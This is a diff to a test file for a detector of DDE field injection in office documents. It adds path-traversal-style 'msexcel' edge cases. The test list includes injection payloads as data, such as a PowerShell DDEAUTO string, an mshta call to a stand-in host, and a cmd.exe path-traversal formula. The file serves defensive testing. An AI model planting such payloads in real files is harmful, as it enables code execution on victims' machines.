@@ -97,6 +97,8 @@ describe("a field that asks another program", () => {
     "DDEAUTO PowerShell -e AAAA",
     "DDEAUTO mshta http://a.example/",
     "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
+    "DDE msexcel/bin/..tool",
+    "DDE a-msexcel..exe b",
     "DDE rundll32 a,b",
     "DDEAUTO a \"https://a.example/b\"",
     "DDEAUTO a \\\\a.example\\b",
@@ -107,6 +109,9 @@ describe("a field that asks another program", () => {
     "DDEAUTO Excel Book1.xls Sheet1!R1C1",
     "DDE Word document.doc bookmark",
     "=Reuters|IDN!'EUR=,PRICE'",
+    "DDE msexcel a\\..\\b",
+    "DDE msexcel.. b",
+    "DDE amsexcel..b",
     "DDEAUTO cmdline topic item",
     "DDE accmd topic item"
   ])("%s is none", (command) => expect(dde(command)).toBe(35))
